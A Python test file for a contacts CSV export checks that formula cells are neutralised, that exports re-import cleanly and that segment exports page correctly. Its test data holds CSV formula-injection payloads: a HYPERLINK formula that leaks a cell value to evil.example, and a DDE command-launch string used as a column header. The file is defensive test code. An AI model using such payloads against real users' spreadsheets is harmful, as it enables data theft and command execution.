"""The CSV export: every contact, columns the import reads back, formula cells neutralised
(and the error report likewise)."""

from __future__ import annotations

import csv
import io
import uuid

import imports_helpers
import pytest
from imports_helpers import IMPORTS, contacts, csv_bytes, import_file
from sqlalchemy import select

from plugins.contacts.models import ContactTag

kraliki_app, platform, owner, import_settings = imports_helpers.FIXTURES

EXPORT = "/api/v1/contacts/export.csv"
TRICKY = csv_bytes(
    "Name,Company,Phone,Email,Tags",
    '=HYPERLINK("http://evil.example/?x="&A1;"click"),@SUM(1+1),'
    "+1 201 555 0101,a@example.com,-lead",
    "Plain Person,Acme,2015550102,b@example.com,vip",
)


def _rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


async def test_formulas_are_stored_as_text_and_exported_neutralised(
    kraliki_client, owner, platform
):
    state = await import_file(platform, kraliki_client, owner.headers, TRICKY)
    assert state["created"] == 2, state
    stored = {c["company"]: c for c in await contacts(platform, owner.tenant_id)}
    assert stored["@SUM(1+1)"]["name"] == '=HYPERLINK("http://evil.example/?x="&A1;"click")'
    response = await kraliki_client.get(EXPORT, headers=owner.headers)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = {r["company"]: r for r in _rows(response.text)}
    evil = rows["'@SUM(1+1)"]
    assert evil["name"] == '\'=HYPERLINK("http://evil.example/?x="&A1;"click")'
    assert evil["phone"] == "'+12015550101"  # stays text in a spreadsheet, + included
    assert evil["tags"] == "'-lead"
    plain = rows["Acme"]
    assert (plain["name"], plain["emails"], plain["tags"]) == (
        "Plain Person",
        "b@example.com",
        "vip",
    )
    assert list(rows["Acme"])[:7] == [
        "name",
        "company",
        "external_id",
        "phone",
        "other_phones",
        "emails",
        "tags",
    ]


async def test_an_export_imports_again(kraliki_client, owner, platform, kraliki_make_owner):
    content = csv_bytes(
        "Name,Phone,Mobile,Email,Tags,Country",
        "Ana,2015550101,+420 601 123 456,ana@example.com,a;b,CZ",
    )
    await import_file(platform, kraliki_client, owner.headers, content)
    exported = (await kraliki_client.get(EXPORT, headers=owner.headers)).content
    other = await kraliki_make_owner("other")
    uploaded = await kraliki_client.post(
        IMPORTS, headers=other.headers, files={"file": ("contacts.csv", exported, "text/csv")}
    )
    suggested = uploaded.json()["suggested_mapping"]
    assert suggested["phone"] == suggested["other_phones"] == "phones"
    assert suggested["created_at"] == "ignore"
    state = await import_file(platform, kraliki_client, other.headers, exported)
    assert (state["created"], state["failed"]) == (1, 0), state
    [ana] = await contacts(platform, other.tenant_id)
    assert ana["phones"] == ["+12015550101", "+420601123456"]
    assert (ana["tags"], ana["country"], ana["emails"]) == (["a", "b"], "CZ", ["ana@example.com"])


@pytest.mark.parametrize("import_settings", [{"import_batch_rows": 50}])
async def test_the_export_pages_through_every_contact(kraliki_client, owner, platform, monkeypatch):
    from plugins.contacts.imports import export

    monkeypatch.setattr(export, "PAGE", 7)
    content = csv_bytes("Name,Phone", *(f"P{i:03d},+1201555{i:04d}" for i in range(30)))
    await import_file(platform, kraliki_client, owner.headers, content)
    rows = _rows((await kraliki_client.get(EXPORT, headers=owner.headers)).text)
    assert sorted(r["name"] for r in rows) == [f"P{i:03d}" for i in range(30)]


async def test_the_error_report_csv(kraliki_client, owner, platform):
    content = csv_bytes("Name,=cmd|' /C calc'!A0", "Ana,12", "Bob,+12015550102")
    state = await import_file(
        platform,
        kraliki_client,
        owner.headers,
        content,
        mapping={"Name": "name", "=cmd|' /C calc'!A0": "phones"},
    )
    assert (state["created"], state["failed"]) == (1, 1), state
    response = await kraliki_client.get(
        f"{IMPORTS}/{state['id']}/errors.csv", headers=owner.headers
    )
    assert response.status_code == 200
    assert list(csv.reader(io.StringIO(response.text.lstrip("\ufeff")))) == [
        ["row", "column", "reason"],
        ["2", "'=cmd|' /C calc'!A0", "not a valid number in its numbering plan"],
    ]


VIP_SEGMENT = uuid.UUID("00000000-0000-4000-8000-000000000001")


async def _vip_ids(session, segment_id, *, after=None, limit=1000):
    """The segments' ``segment_contact_ids`` contract: a segment of the contacts tagged vip."""
    if segment_id != VIP_SEGMENT:
        raise LookupError(segment_id)
    query = select(ContactTag.contact_id).where(ContactTag.tag == "vip")
    if after is not None:
        query = query.where(ContactTag.contact_id > after)
    return list(await session.scalars(query.order_by(ContactTag.contact_id).limit(limit)))


async def test_a_segment_export(kraliki_client, owner, platform, monkeypatch):
    import plugins.contacts
    from plugins.contacts.imports import export

    monkeypatch.setattr(plugins.contacts, "segment_contact_ids", _vip_ids, raising=False)
    monkeypatch.setattr(export, "PAGE", 3)
    rows = [f"P{i:02d},+1201555{i:04d},{'vip' if i % 2 else 'other'}" for i in range(14)]
    await import_file(platform, kraliki_client, owner.headers, csv_bytes("Name,Phone,Tags", *rows))
    response = await kraliki_client.get(
        EXPORT, headers=owner.headers, params={"segment_id": str(VIP_SEGMENT)}
    )
    assert response.status_code == 200, response.text
    assert sorted(r["name"] for r in _rows(response.text)) == [f"P{i:02d}" for i in range(1, 14, 2)]
    missing = await kraliki_client.get(
        EXPORT, headers=owner.headers, params={"segment_id": str(uuid.uuid4())}
    )
    assert missing.status_code == 404
    assert missing.json()["type"] == "/problems/contacts-export-segment-not-found"


async def test_a_real_segment_export(kraliki_client, owner, platform, monkeypatch):
    """Imported contacts are in a dynamic segment at once; the export pages its members."""
    from plugins.contacts.imports import export

    monkeypatch.setattr(export, "PAGE", 2)
    rows = [f"P{i},+1201555{i:04d},{'callback' if i < 5 else 'lead'}" for i in range(9)]
    await import_file(platform, kraliki_client, owner.headers, csv_bytes("Name,Phone,Tags", *rows))
    segment = await kraliki_client.post(
        "/api/v1/contacts/segments",
        headers=owner.headers,
        json={"name": "Call back", "filter": {"tags_any": ["callback"]}},
    )
    assert segment.status_code == 201, segment.text
    response = await kraliki_client.get(
        EXPORT, headers=owner.headers, params={"segment_id": segment.json()["id"]}
    )
    assert response.status_code == 200, response.text
    assert sorted(r["name"] for r in _rows(response.text)) == [f"P{i}" for i in range(5)]
